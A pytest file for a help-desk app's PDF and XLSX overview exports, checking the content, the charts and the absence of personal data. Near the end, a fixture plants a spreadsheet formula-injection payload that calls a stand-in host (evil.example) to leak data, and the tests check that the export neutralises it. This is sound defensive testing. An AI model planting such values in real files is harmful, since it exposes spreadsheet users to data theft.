"""The overview's PDF (text drawn, charts, map) and XLSX (sheets, headers,
values as numbers)."""

import io
import re

import pytest
from django.utils import translation
from openpyxl import load_workbook

from tests.support.pdf import pdf_text
from wagtail_helpdesk.overviews import figures
from wagtail_helpdesk.overviews.pdf import latin1, overview_pdf
from wagtail_helpdesk.overviews.xlsx import overview_xlsx

from .conftest import END, START


def shown(content):
    """The strings the PDF shows, in order, joined by spaces."""
    parts = re.findall(r"\((.*?)(?<!\\)\)\s*Tj", pdf_text(content))
    return " ".join(p.replace("\\(", "(").replace("\\)", ")") for p in parts)


@pytest.fixture
def data(month):
    with translation.override("en"):
        yield figures.compute(START, END, [month.anagrafe])


def test_pdf_has_title_page_tables_and_no_personal_data(data, month):
    with translation.override("en"):
        content = overview_pdf(data, "Comune di Prova")
    assert content.startswith(b"%PDF")
    text = shown(content)
    for expected in ("Comune di Prova", "Help desk overview", "Anagrafe",
                     "Tickets by channel", "Website", "Carta d'identit\xe0", "Buche stradali",
                     "Median first response (hours)", "Resolved within the deadline",
                     "1 of 3 within the deadline", "Map of reports", "Via Roma",
                     "Piazza Duomo", "250 m"):
        assert expected in text, expected
    # The period, in the site's date format.
    assert "2025" in text
    # No citizen's name, subject or description.
    for ticket in month.tickets:
        assert ticket.citizen is None or ticket.citizen.family_name not in text
    assert "Buca in via Roma" not in text and "civico" not in text


def test_pdf_draws_charts_and_the_map(data):
    with translation.override("en"):
        drawing = pdf_text(overview_pdf(data, "Comune"))
    # Filled rectangles (bars), Bézier curves (bubbles), the north arrow's "N".
    assert drawing.count(" re f") + drawing.count(" re\nf") + drawing.count("re f") >= 10
    assert " c\n" in drawing or " c " in drawing
    assert "(N) Tj" in drawing


def test_pdf_of_an_empty_period(db):
    with translation.override("en"):
        content = overview_pdf(figures.compute(START, END, []), "Comune")
    text = shown(content)
    assert "Nothing in this period." in text
    assert "No report with a position in this period." in text


def test_pdf_in_italian_uses_latin1(data):
    with translation.override("it"):
        content = overview_pdf(data, "Comune di Sant’Agata – Città")
    text = shown(content)
    assert "Comune di Sant'Agata - Citt\xe0" in text
    assert latin1("€ 5 — “ok”") == 'EUR 5 - "ok"'


def test_xlsx_sheets_headers_and_numbers(data):
    with translation.override("en"):
        book = load_workbook(io.BytesIO(overview_xlsx(data)))
    assert book.sheetnames == ["Summary", "Channels", "Services", "Report categories", "Offices",
                               "Times", "Backlog", "Satisfaction", "Places", "By day"]
    for sheet in book.worksheets:
        assert all(cell.font.bold for cell in sheet[1] if cell.value is not None)
    channels = [list(r) for r in book["Channels"].iter_rows(values_only=True)]
    assert channels[0] == ["Channel", "Number of tickets", "Share (%)"]
    assert channels[1] == ["Website", 4, 66.7]
    times = [list(r) for r in book["Times"].iter_rows(values_only=True)]
    assert times[1][:5] == ["First response", 3, 4.0, 4.0, 6.0]
    assert times[2] == ["Resolution", 4, 324.0, 96.0, 792.0, 3, 1, 33.3]
    backlog = [list(r) for r in book["Backlog"].iter_rows(values_only=True)]
    assert [row[1] for row in backlog[1:]] == [2, 5]
    assert backlog[2][2] == 1
    places = [list(r) for r in book["Places"].iter_rows(values_only=True)]
    assert places[0] == ["Rank", "Street", "Reports", "Latitude", "Longitude"]
    assert places[1][:3] == [1, "Via Roma", 2]
    assert isinstance(places[1][3], float)
    satisfaction = [list(r) for r in book["Satisfaction"].iter_rows(values_only=True)]
    assert satisfaction[3] == [3, 1, 50.0] and satisfaction[5] == [5, 1, 50.0]
    summary = dict(r for r in book["Summary"].iter_rows(min_row=2, values_only=True))
    assert summary["Tickets submitted"] == 6
    assert summary["Average rating (1-5)"] == 4.0
    services = [list(r) for r in book["Services"].iter_rows(values_only=True)]
    assert services[1:] == [["Residenza", 2, 66.7], ["Carta d'identità", 1, 33.3]]
    days = list(book["By day"].iter_rows(min_row=2, values_only=True))
    assert len(days) == 28 and sum(r[1] for r in days) == 6


EVIL = '=HYPERLINK("http://evil.example/?leak","Click")'


@pytest.fixture
def evil(month):
    """Names and an address written to be run by a spreadsheet."""
    from wagtail_helpdesk.models import ReportCategory

    from .conftest import place

    ReportCategory.objects.filter(name="Buche stradali").update(name=EVIL)
    type(month.anagrafe).objects.filter(pk=month.anagrafe.pk).update(name="+SUM(1,2)")
    month.anagrafe.refresh_from_db()
    t3, t4 = month.tickets[2], month.tickets[3]
    place(t3, address=f"{EVIL} 12, Milano")
    place(t4, address=f"{EVIL} 14, Milano")
    with translation.override("en"):
        yield figures.compute(START, END, [month.anagrafe])


def test_xlsx_never_holds_a_formula(evil):
    import zipfile

    with translation.override("en"):
        content = overview_xlsx(evil)
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert EVIL in values  # the category, as text
    assert "+SUM(1,2)" in values  # the office, as text
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
            assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    # The street keeps only a normalised name, never the "=" of the address.
    places = [list(r) for r in book["Places"].iter_rows(min_row=2, values_only=True)]
    assert places[0][1] == 'HYPERLINK("http://evil.example/?leak"'  # up to the first comma
    # No formula element anywhere in the file's XML.
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_pdf_shows_the_same_names_as_plain_text(evil):
    with translation.override("en"):
        text = shown(overview_pdf(evil, "Comune"))
    assert '=HYPERLINK("http://evil.example/?leak","Click")' in text
    assert "+SUM(1,2)" in text
    assert "/URI" not in pdf_text(overview_pdf(evil, "Comune"))  # no link annotation
